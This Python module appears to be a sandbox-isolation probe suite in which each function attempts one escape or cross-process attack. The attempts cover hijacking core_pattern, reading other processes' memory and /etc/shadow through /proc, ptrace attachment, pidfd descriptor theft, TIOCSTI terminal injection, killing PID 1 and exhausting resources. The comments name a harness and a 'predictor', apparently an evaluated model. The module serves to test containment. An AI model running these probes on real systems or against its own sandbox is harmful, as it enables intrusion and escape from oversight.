"""Attacks on other processes, and with many of one's own.

Each function is one attack: it returns what it got hold of, or nothing.
"""

import fcntl
import os
import resource
import signal
import socket
import struct
import subprocess
import termios
import threading
import time

from honest import GIFT

from probes.calls import HOST, call, others, readable, writable


def core_dump():
    """Leaves a dump of its memory, or lets the kernel start a program for it."""
    if writable("/proc/sys/kernel/core_pattern", b"|/tmp/x"):
        return "core_pattern"
    child = os.fork()
    if child == 0:
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (2**20, 2**20))
        except (OSError, ValueError):
            pass
        os.chdir("/tmp")
        signal.signal(signal.SIGABRT, signal.SIG_DFL)
        os.abort()
    return os.WCOREDUMP(os.waitpid(child, 0)[1]) and HOST and "a core dump"


def first_pass_ids():
    """Looks for process ids and names that a shared namespace would carry from run to run."""
    return HOST and os.getpid() > 5000 and os.getpid()


def huge_environment():
    """Starts programs with the largest environment that the kernel takes."""
    big = {f"V{number}": "x" * 2**16 for number in range(40)}
    for _ in range(5):
        try:
            subprocess.run(["/bin/sh", "-c", ":"], env=big, check=False)
        except OSError:
            break
    return


def memory_of_others():
    """Opens the memory and the descriptors of every process that it sees."""
    for process in [1, *others()]:
        for part in ("mem", "maps", "environ", "fd/0", "fd/3", "cwd/gift.json", "root/etc/shadow"):
            if process != 1 or HOST:
                if readable(f"/proc/{process}/{part}"):
                    return f"{part} of {process}"
    return None


def own_limits():
    """Raises its own limits and priority."""
    found = []
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_MEMLOCK, resource.RLIMIT_NICE):
        _, hard = resource.getrlimit(kind)
        if hard != resource.RLIM_INFINITY:
            try:
                resource.setrlimit(kind, (hard + 1, hard + 1))
                found.append(kind)
            except (OSError, ValueError):
                continue
    for action in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))):
        try:
            before = os.nice(0)
            action()
            if os.nice(0) < before or os.sched_getscheduler(0) == os.SCHED_FIFO:
                found.append("priority")
        except OSError:
            continue
    return found


def peer_credentials():
    """Asks who is at the other end of its standard streams."""
    for number in range(3):
        try:
            with socket.socket(fileno=os.dup(number)) as stream:
                process = struct.unpack("3i", stream.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        except OSError:
            continue
        if process not in (0, os.getpid(), os.getppid()):
            return process
    return None


def signal_first():
    """Kills the first process, and everything else that it can."""
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(1, number)
        except OSError:
            continue
    return


def steal_descriptor():
    """Takes a descriptor of another process (pidfd_getfd)."""
    for process in (1, GIFT["harness"]):
        handle = call(434, process, 0)
        if handle >= 0 and any(call(438, handle, number, 0) >= 0 for number in range(3, 20)):
            return f"a descriptor of {process}"
    return None


def terminal():
    """Types into a terminal of the harness (TIOCSTI), and takes it over."""
    found = []
    for path in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
        try:
            descriptor = path if isinstance(path, int) else os.open(path, os.O_RDWR | os.O_NOCTTY)
            fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
            found.append(path)
        except OSError:
            continue
    return found


def threads():
    """Starts threads until it is refused."""
    stop, started = threading.Event(), 0
    threading.stack_size(2**16)
    try:
        while started < 4 * GIFT["processes"]:
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    stop.set()
    return started >= 4 * GIFT["processes"] and f"{started} threads"


def timer_slack():
    """Slows the timers of its parent."""
    processes = (1, os.getppid()) if HOST else ()  # in a container, the first process belongs to the predictor
    return [process for process in processes if writable(f"/proc/{process}/timerslack_ns", b"1000000")]


def trace_parent():
    """Attaches to the first process and to its parent (ptrace, process_vm_readv, kcmp)."""
    for process in {1, os.getppid()} if HOST else ():
        if call(101, 0x4206, process, 0, 0) == 0 or call(312, os.getpid(), process, 1, 0, 0) >= 0:
            return f"control of {process}"
    return None


def zombies():
    """Leaves ended children that nobody waits for, and orphans."""
    for _ in range(20):
        if os.fork() == 0:
            if os.fork() == 0:
                time.sleep(0.2)
            os._exit(0)
    return
